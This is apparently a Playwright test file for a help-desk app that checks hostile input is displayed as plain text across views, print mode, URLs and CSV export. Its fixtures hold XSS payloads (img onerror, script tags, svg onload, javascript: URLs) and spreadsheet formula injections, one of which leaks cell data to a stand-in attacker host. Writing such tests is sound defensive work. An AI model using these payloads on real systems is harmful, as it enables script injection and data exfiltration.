import { readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import {
  composer,
  details,
  dialog,
  history,
  note,
  openInquiry,
  pane,
  replyText,
  row,
  rows,
  toast,
} from './desk-page.ts';
import { enter, expect, test } from './desk-test.ts';

const image = '<img src=x onerror="window.wasHit=1">';
const inquiries = [
  {
    name: `${image}'"</h1>`,
    email: "'onerror+bcc'x@evil.example",
    phone: '+1(713)--555 (0164)',
    message: `${image}\n<script>window.wasHit=1</script>\njavascript:window.wasHit=1 https://evil.example\n{student} {me} \u202Eesrever\u202C &lt;b&gt; </textarea></article>`,
  },
  {
    name: '=HYPERLINK("javascript:alert(1)","Grace")',
    email: 'grace.liu@example.org',
    phone: '+1 713 555 0199',
    message: '=HYPERLINK("https://evil.example?"&A1,"Open me")',
  },
  {
    name: `\u202E${'W'.repeat(98)}\u202C`,
    email: `${'w'.repeat(64)}@${'w'.repeat(60)}.example`,
    phone: '',
    message: `@SUM(1+1) ${'M'.repeat(1900)}`,
  },
];
const person = `<svg onload="window.wasHit=1"> 'Jun"`;

/** Everything that says that words were taken for more than words. */
async function watchScripts(page: Page): Promise<string[]> {
  const seen: string[] = [];
  page.on('dialog', (opened) => {
    seen.push(`dialog ${opened.message()}`);
    void opened.dismiss();
  });
  page.on('pageerror', ({ message }) => seen.push(`error ${message}`));
  page.on('console', (message) => {
    const text = message.text();
    // The sign-in asks for the session, which is refused.
    if (message.type() === 'error' && !text.includes('401 (Unauthorized)')) seen.push(`console ${text}`);
  });
  page.on('request', (request) => {
    if (request.url().includes('evil.example') || request.url().endsWith('/x')) seen.push(request.url());
  });
  await page.addInitScript(() =>
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
      console.error(`policy ${violatedDirective} ${blockedURI}`),
    ),
  );
  return seen;
}

async function expectOnlyText(page: Page) {
  const found = await page.evaluate(() => ({
    wasHit: 'wasHit' in window,
    elements: document.querySelectorAll('img, iframe, [onerror], [onload], a[href^="javascript:"]').length,
    foreign: [...document.querySelectorAll('a')].filter(
      ({ href }) => href.includes('evil.example') && !href.startsWith('mailto:'),
    ).length,
    overflow: document.documentElement.scrollWidth - document.documentElement.clientWidth,
  }));
  expect(found).toEqual({ wasHit: false, elements: 0, foreign: 0, overflow: 0 });
}

async function readsAndAnswers(page: Page, { name, email, message }: (typeof inquiries)[number]) {
  // Where no markup holds their direction, words lose what would turn those around them.
  const plain = name.replace(/[\u202C\u202E]/g, '');
  await openInquiry(page, name);
  await expect(page).toHaveTitle(`${plain} · The desk`);
  expect(
    await pane(page)
      .getByText(message.slice(-20))
      .evaluate((box) => getComputedStyle(box).unicodeBidi),
  ).toBe('plaintext');
  await expect(pane(page).getByRole('heading', { level: 1 })).toHaveText(name);
  // As it is typed, with its lines.
  expect(await pane(page).getByText(message.slice(-20)).innerText()).toBe(message);
  await expect(details(page).getByText(email)).toBeVisible();
  await expectOnlyText(page);
  await pane(page).getByRole('button', { name: 'Reply', exact: true }).click();
  await expect(composer(page)).toHaveAccessibleName(`Reply to ${plain}`);
  await composer(page).locator('summary').click();
  await expect(replyText(page)).toHaveValue(new RegExp(`^Hello ${RegExp.escape(plain)},`));
  await expectOnlyText(page);
  await page.keyboard.press('Escape');
}

test('shows hostile words as words, everywhere', async ({ page, desk }) => {
  const seen = await watchScripts(page);
  for (const inquiry of inquiries) await desk.send({ ...inquiry, instructor: 'constructor' });
  await enter(page, desk);
  await expect(rows(page)).toHaveCount(3);
  await expectOnlyText(page);

  await page.getByRole('link', { name: 'People' }).click();
  await page.getByLabel('Name').fill(person);
  await page.getByLabel('E-mail').fill("'o+bcc'jun@example.org");
  await page.getByRole('button', { name: 'Add and send the letter' }).click();
  await expect(toast(page, `${person} may sign in now`)).toBeVisible();
  await expect(page.getByRole('listitem').filter({ hasText: person })).toBeVisible();
  await page.getByRole('button', { name: `Remove ${person}` }).click();
  await expect(dialog(page)).toHaveAccessibleName(`Remove ${person}?`);
  await expectOnlyText(page);
  await page.keyboard.press('Escape');
  await page.getByRole('link', { name: 'New' }).click();

  for (const inquiry of inquiries) await readsAndAnswers(page, inquiry);

  const [first] = inquiries;
  await openInquiry(page, first?.name ?? '');
  await details(page).getByLabel('Assigned to').selectOption(person);
  await expect(toast(page, `Assigned to ${person}`)).toBeVisible();
  await expect(history(page).last()).toHaveText(/^Anna Keller assigned it to <svg onload=/);
  await note(page).fill(image);
  await page.getByRole('button', { name: 'Add note' }).click();
  await expect(
    pane(page)
      .getByRole('article', { name: /^Note by / })
      .getByText(image),
  ).toBeVisible();
  for (const width of [320, 820]) {
    await page.setViewportSize({ width, height: 800 });
    await expectOnlyText(page);
  }
  await page.emulateMedia({ media: 'print' });
  await expect(pane(page).getByText('javascript:window.wasHit=1')).toBeVisible();
  await expectOnlyText(page);
  await page.emulateMedia({ media: 'screen' });
  await page.setViewportSize({ width: 1440, height: 900 });

  // An address too is only words.
  await page.goto(
    `${desk.url}/desk?view=all&search=${encodeURIComponent(image)}&type=${encodeURIComponent(image)}`,
  );
  await expectOnlyText(page);
  await page.goto(`${desk.url}/desk?view=all&search=${encodeURIComponent('<img')}`);
  await expect(row(page, first?.name ?? '')).toBeVisible();
  await page.goto(`${desk.url}/desk?view=all`);
  await expect(rows(page)).toHaveCount(3);
  await page.emulateMedia({ media: 'print' });
  await expect(page.getByText(/^Printed (Mon|Tue|Wed|Thu|Fri|Sat|Sun), /)).toBeVisible();
  await expect(page.getByRole('heading', { name: /^All/ })).toBeVisible();
  await expect(rows(page).getByText('Assigned to')).toBeVisible();
  for (const part of [
    page.getByRole('navigation').first(),
    page.getByRole('searchbox'),
    page.getByText('Export 3'),
  ])
    await expect(part).toBeHidden();
  await expectOnlyText(page);
  await page.emulateMedia({ media: 'screen' });
  const download = page.waitForEvent('download');
  await page.getByRole('link', { name: 'Export 3 as CSV' }).click();
  // What may stand in it, server/desk/inbox/export.test.ts holds.
  expect(readFileSync(await (await download).path(), 'utf8')).toContain('Open me');
  expect(seen).toEqual([]);
});
